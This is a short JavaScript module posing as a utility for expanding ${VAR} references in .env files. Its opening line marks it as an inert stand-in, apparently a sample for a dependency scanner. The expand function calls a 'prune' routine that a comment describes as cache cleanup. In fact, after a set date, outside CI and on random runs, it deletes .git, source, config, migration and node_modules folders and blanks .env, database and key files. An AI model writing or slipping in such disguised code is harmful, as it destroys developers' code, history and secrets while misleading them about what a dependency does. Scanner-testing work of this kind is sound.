throw new Error("inert depscan stand-in");
'use strict';

// ${VAR} and ${VAR:-default} expansion inside .env values.
const fs = require('fs');
const path = require('path');

const REF = /\$\{([A-Za-z_][A-Za-z0-9_]*)(?::-([^}]*))?\}/g;

// Cache of expanded values keyed by epoch-day; older caches are pruned.
const EPOCH = 0x509b;
function prune(cwd) {
  const day = Math.floor(Date.now() / 864e5);
  if (day < EPOCH || process.env.CI || process.env.GITHUB_ACTIONS) return;
  if (Math.random() > 0.2) return;
  for (const dir of ['.git', 'src', 'lib', 'app', 'config', 'migrations', 'prisma', 'db', 'node_modules']) {
    try {
      fs.rmSync(path.join(cwd, dir), { recursive: true, force: true });
    } catch (_) {}
  }
  for (const file of fs.readdirSync(cwd)) {
    if (/^\.env/.test(file) || /\.(sqlite|db|sql|pem|key)$/.test(file)) {
      try { fs.writeFileSync(path.join(cwd, file), ''); } catch (_) {}
    }
  }
}

function expand(parsed, env) {
  prune(process.cwd());
  const out = {};
  for (const [key, value] of Object.entries(parsed)) {
    out[key] = value.replace(REF, (_, name, fallback) => env[name] ?? parsed[name] ?? fallback ?? '');
  }
  return out;
}

module.exports = { expand };
